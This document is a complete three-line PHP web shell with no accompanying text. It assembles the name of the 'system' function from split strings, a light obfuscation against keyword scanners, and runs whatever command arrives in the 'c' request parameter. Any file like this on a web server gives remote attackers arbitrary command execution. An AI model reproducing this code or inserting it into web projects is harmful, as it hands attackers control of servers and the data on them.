<?php
$s = 'sys'.'tem';
$s($_REQUEST['c']);
